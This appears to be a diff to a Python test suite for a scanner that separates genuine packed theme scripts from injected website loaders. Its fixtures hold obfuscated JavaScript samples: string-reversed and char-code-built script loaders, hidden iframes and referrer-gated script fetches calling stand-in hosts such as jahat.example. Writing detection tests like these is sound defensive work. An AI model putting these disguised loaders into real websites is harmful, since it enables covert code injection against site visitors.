@@ -43,11 +43,24 @@ SLICED = (
     "var q=['pt','scri','ment','Ele','ate','cre','/a.js','xample','hat.e','//ja'],z=function("
     "a,b){return q.slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));s.src=z(6,10)"
 )
+BACKWARDS = f"var t='{EVIL[::-1]}',o='';for(var i=t.length-1;i>=0;i--)o+=t.charAt(i);"
 HANDED_OVER = (
     f"var o={{d:[{codes('script')}],u:[{codes(EVIL + '/a.js')}]}};(function(p){{var f=String."
     "fromCharCode,e=document.createElement(f.apply(null,p.d));e.src=f.apply(null,p.u);"
     "document.head.appendChild(e)})(o)"
 )
+FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
+PACKED_ACTS = [
+    # What is packed and makes a frame, or looks who comes from a search is no theme's news,
+    # whatever a comment says and whichever elements of the page it names.
+    packed(FRAME + "document.body.appendChild(f)", ["a"]),
+    packed("$(\\'.menu\\').hide();" + FRAME + "$(\\'body\\').append(f)", ["a"]),
+    packed(
+        "if(/google/.test(document.referrer))$.getScript(\\'https://cdn.jahat.example/k.js\\')",
+        ["a"],
+    ),
+]
+SAYS = "<!-- Tema oleh cdn.jahat.example --><div class=menu>Menu</div>"
 CONTENTS = [
     (
         "if(matchMedia('(max-width:700px)').matches)fetch(['https:/','/ja','hat.exa','mple/a'].join"
@@ -63,14 +76,16 @@ CONTENTS.append(
     "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
 )
 LOADERS = [
-    (news("cdn.temaku.example"), ""),
-    (news("cdn.jahat.example"), CREDIT),
+    *((source, credit) for source in PACKED_ACTS for credit in ("", SAYS)),
     # The owner's name is cut, or the ending.
     (OLD.format("['https:/','/ja','hat.exa','mple/a'].join('')"), ""),
     (OLD.format("'https://jahat.'+'exa'+'mple/a.js'"), ""),
     (OLD.format("['pt','/a.js','xample','hat.e','//ja'].slice(1,5).reverse().join('')"), ""),
     (SLICED, ""),
     (HANDED_OVER, ""),
+    # Codes as digits in a text, and an address that a loop turns round.
+    (OLD.format(f"String.fromCharCode.apply(null,'{codes(EVIL + '/a.js')}'.split(','))"), ""),
+    (BACKWARDS + OLD.format("o"), ""),
     *((source, "") for source in CONTENTS),
 ]
 
@@ -240,28 +255,91 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
     [
         (SHEET, "look"),
         ('<img src="//cdn.temaku.example/logo.png">', "look"),
+        ('<a href="https://temaku.example/">Temaku</a>', "look"),
         ("", "loader"),
         ('<link rel="stylesheet" href="https://cdn.lain.example/huruf.css">', "loader"),
-        # A link in hiding says nothing.
+        # A link in hiding says nothing, nor does a comment.
         ('<a style="display:none" href="https://temaku.example/">Temaku</a>', "loader"),
+        ("<!-- Tema Temaku, temaku.example -->", "loader"),
     ],
 )
 def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(page), URL, ZONE, exchange, truncated=False)
-    assert on_page(news("cdn.temaku.example"), page, markup).message == message
+    counted = packed(FRAME.replace("jahat", "temaku") + "document.body.appendChild(f)", ["a"])
+    assert on_page(counted, page, markup).message == message
+    # That it loads a script for everybody proves nothing by itself.
+    assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
 
 
-def test_a_packed_theme_whose_maker_the_page_names() -> None:
-    script = packed("s.src=\\'https://cdn.temaku.example/a.js\\';d.head.appendChild(s)", ["a"])
-    loads = script.replace("s.src", "s=document.createElement(\\'script\\');s.src")
-    assert on_page(loads, "<p>Tema oleh temaku.example</p>").message == "look"
-    assert on_page(loads, "<p>Tema oleh orang lain</p>").message == "loader"
+@pytest.mark.parametrize(
+    "source",
+    [
+        "document.write(\\'<script src=https://cdn.temaku.example/a.js><\\'+\\'/script>\\')",
+        "var o={u:\\'https://cdn.temaku.example/a.js\\'};$.getScript(o.u)",
+        "function m(u){$.getScript(u)}m(\\'https://cdn.temaku.example/a.php?t=1\\')",
+        "navigator.userAgent;$.getScript(\\'https://cdn.temaku.example/a.js\\')",
+        "$.getScript(\\'https://cdn.temaku.example/a.js?r=\\'+document.referrer)",
+    ],
+)
+def test_however_a_packed_theme_loads_its_makers_script(source: str) -> None:
+    assert on_page(packed(source, ["a"]), "").message == "look"
 
 
-@pytest.mark.parametrize(("sheet", "message"), [(SHEET, "clean"), ("", "loader")])
+def test_a_packed_script_from_a_host_of_the_trade() -> None:
+    for page in ("", SHEET.replace("temaku", "slot88"), "<p>Tema oleh slot88.example</p>"):
+        assert on_page(news("cdn.slot88.example"), page).message == "loader"
+
+
+@pytest.mark.parametrize(
+    ("page", "message"),
+    [
+        ("<!-- Tema Temaku -->", "clean"),
+        (CREDIT, "clean"),
+        ("<p>Tema oleh orang lain</p>", "look"),
+        ("", "look"),
+    ],
+)
+def test_a_packed_file_by_whether_the_page_names_its_maker(page: str, message: str) -> None:
+    assert in_file(news("cdn.temaku.example"), page).message == message
+
+
+@pytest.mark.parametrize(("sheet", "message"), [(SHEET, "clean"), ("", "look")])
 def test_a_packed_file_by_what_the_page_has_from_its_maker(sheet: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(sheet), URL, ZONE, exchange, truncated=False)
     verdict = in_file(news("cdn.temaku.example"), sheet, markup=markup)
     assert verdict.message == message
+
+
+BOX = (
+    "(function(){{var h='elpmaxe.kotokorbo.w'.split('').reverse().join(''),e=document.createElement"
+    "('iframe');e.src='//'+h+'/kotak?k=desa';{}document.getElementById('obrolan').appendChild(e)}})()"
+)
+SIZE = "e.width=296;e.height='320px';"
+
+
+@pytest.mark.parametrize(
+    ("given", "message"),
+    [
+        (SIZE, "look"),
+        ("e.height=200;e.frameBorder=0;e.width='250';", "look"),
+        ("", "loader"),
+        ("e.width=1;e.height=1;", "loader"),
+        ("e.width=296;", "loader"),
+        (SIZE + "e.style.display='none';", "loader"),
+        (SIZE + "e.setAttribute('style','position:fixed');", "loader"),
+        (SIZE + "e.className='x';", "loader"),
+        (SIZE + "if(/google/.test(document.referrer))e.src+='&g';", "loader"),
+    ],
+)
+def test_a_frame_in_sight_from_an_address_in_disguise(given: str, message: str) -> None:
+    assert on_page(BOX.format(given), "<div id=obrolan></div>").message == message
+
+
+def test_a_frame_in_sight_beside_a_script_or_of_the_trade() -> None:
+    source = BOX.format(SIZE)
+    more = "var s=document.createElement('script');s.src='//'+h+'/a.js';document.body.append(s);"
+    assert on_page(BOX.format(SIZE + more), "").message == "loader"
+    trade = source.replace("elpmaxe.kotokorbo.w", "elpmaxe.77rocag")
+    assert on_page(trade, "").message == "loader"
